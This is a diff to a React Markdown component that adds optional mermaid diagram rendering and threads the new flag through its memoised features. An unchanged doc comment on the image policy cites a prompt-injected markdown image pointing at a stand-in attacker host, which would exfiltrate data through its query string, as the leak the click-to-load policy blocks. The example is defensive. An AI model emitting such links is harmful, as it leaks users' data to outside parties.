@@ -46,6 +46,14 @@ export interface MarkdownProps {
    */
   highlight?: boolean;
   /**
+   * Draw ```mermaid fences as diagrams once the fence has closed (its source shows while it
+   * streams), with mermaid's strict security level; mermaid loads with the first diagram. A toggle
+   * shows the source; a diagram that does not parse shows its source and the parser's message.
+   * False leaves them as code.
+   * @default true
+   */
+  diagrams?: boolean;
+  /**
    * Where images may load from on their own. Without it every http(s) image loads as it renders;
    * with it, an image from anywhere else shows as a button naming its host, and loads on the
    * user's click, so a prompt-injected `![](https://attacker.example/?q=…)` leaks nothing by
@@ -128,6 +136,7 @@ export const Markdown = memo(function Markdown({
   streaming = false,
   math = true,
   highlight = true,
+  diagrams = true,
   images: imagesProp,
 }: MarkdownProps) {
   // Apps often write the policy inline; one that says the same keeps every block memoised.
@@ -153,13 +162,14 @@ export const Markdown = memo(function Markdown({
     () => ({
       math,
       highlight,
+      diagrams,
       streaming: false,
       code: userCode,
       pre: userPre,
       images,
       img: userImg,
     }),
-    [math, highlight, userCode, userPre, images, userImg],
+    [math, highlight, diagrams, userCode, userPre, images, userImg],
   );
   // Only the last block is still arriving; the others are final even while the reply streams.
   const tailFeatures = useMemo<MarkdownFeatures>(() => ({ ...features, streaming }), [features, streaming]);
